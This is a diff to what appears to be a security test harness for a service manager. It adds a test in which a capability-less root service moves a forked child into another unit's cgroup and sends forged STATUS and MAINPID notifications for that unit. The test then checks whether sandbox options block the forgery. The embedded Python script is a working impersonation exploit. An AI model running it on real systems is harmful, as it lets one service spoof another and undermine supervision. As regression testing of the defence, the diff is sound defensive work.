@@ -627,7 +627,82 @@ def userns_foreign_map(ctx):
     d.stop()
 
 
-ATTACKS = [userns_foreign_map, userns_guard_uid, userns_guard_uid_nobody, userns_guard_uid_dynamic, userns_no_setuid, notify_pid_reuse, mainpid_outside, mainpid_outside_crash, holder_fd_table, state_file_status, compat_setresuid, euid_checks]
+# ---------------------------------------------------------------------------------------
+CGROUP_MOVE_PY = r"""
+# A capless root service forks a child that writes its own pid into the victim unit's
+# cgroup.procs (root owns the files; cgroup v2 asks for write access to the destination and
+# to the common ancestor's cgroup.procs, no capability), then speaks for the victim.
+import os, socket, sys, time
+with open('/proc/self/cgroup') as f:
+    own = [l for l in f.read().split('\n') if l.startswith('0::')][0][3:]
+root = None
+for l in open('/proc/self/mountinfo'):
+    p = l.split()
+    if p[p.index('-') + 1] == 'cgroup2':
+        root = p[4]
+parent = os.path.dirname(own)
+cg = parent + '/' + [n for n in os.listdir(root + parent) if sys.argv[1] in n][0]
+print('attacker: victim cgroup', cg, 'cgroup2 at', root, flush=True)
+pid = os.fork()
+if pid == 0:
+    try:
+        with open(root + cg + '/cgroup.procs', 'w') as f:
+            f.write('%d\n' % os.getpid())
+        print('attacker child: moved into', open('/proc/self/cgroup').read().strip(), flush=True)
+    except OSError as e:
+        print('attacker child: move failed', e, flush=True)
+        os._exit(1)
+    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
+    s.sendto(('STATUS=forged by the attacker\nMAINPID=%d\n' % os.getpid()).encode(), os.environ['NOTIFY_SOCKET'])
+    print('attacker child: sent', flush=True)
+    time.sleep(1000)
+os.waitpid(pid, 0)
+"""
+
+
+def cgroup_move_notify(ctx, protect=False, gated=False):
+    """A capless root service (no gate needed) moves a child of its own into another unit's
+    cgroup by writing cgroup.procs, then sends STATUS= and MAINPID= for that unit (victim
+    NotifyAccess=all): notifications now go by the sender's cgroup. With
+    ProtectControlGroups=yes the cgroup tree is read-only for it."""
+    path = script(ctx, 'cgmove.py', CGROUP_MOVE_PY)
+    units = {'victim.service': unit('NotifyAccess=all\nExecStart=/bin/sleep 1000'),
+             'attacker.service': unit('CapabilityBoundingSet=\nNotifyAccess=all\n' +
+                                      ('ProtectControlGroups=yes\n' if protect else '') +
+                                      (GATED if gated else '') +
+                                      'ExecStart=/usr/bin/python3 %s victim.service' % path)}
+    d = ctx.daemon(units, ['victim.service'])
+    d.wait_state('victim.service', 'active', 'running')
+    st.ctl(ctx, d, 'start', 'attacker.service')
+    end = time.monotonic() + 10
+    status = ''
+    while time.monotonic() < end:
+        status = st.ctl(ctx, d, 'status', 'victim.service').stdout
+        log = d.unit_log('attacker.service')
+        if 'forged' in status or 'move failed' in log:
+            break
+        time.sleep(0.1)
+    verbose(d, 'attacker.service')
+    if os.environ.get('ATTACK_VERBOSE'):
+        print(status)
+    label = 'ProtectControlGroups=yes' if protect else 'gated, no other sandbox' if gated else 'no sandbox'
+    verdict('notify: %s: a root service moves a process into another unit\'s cgroup and speaks for it' % label,
+            'forged' not in status,
+            'victim status: %s; attacker log: %s' % (' | '.join(status.strip().split('\n')),
+                                                    ' | '.join(l.split(': ', 1)[-1] for l in d.unit_log('attacker.service').split('\n') if l.strip())))
+    d.stop()
+
+
+def cgroup_move_notify_protected(ctx):
+    cgroup_move_notify(ctx, True)
+
+
+def cgroup_move_notify_gated(ctx):
+    """The same attacker gated (ProtectSupervisor= is on by default with the gate)."""
+    cgroup_move_notify(ctx, False, True)
+
+
+ATTACKS = [cgroup_move_notify, cgroup_move_notify_protected, cgroup_move_notify_gated, userns_foreign_map, userns_guard_uid, userns_guard_uid_nobody, userns_guard_uid_dynamic, userns_no_setuid, notify_pid_reuse, mainpid_outside, mainpid_outside_crash, holder_fd_table, state_file_status, compat_setresuid, euid_checks]
 
 
 def main():
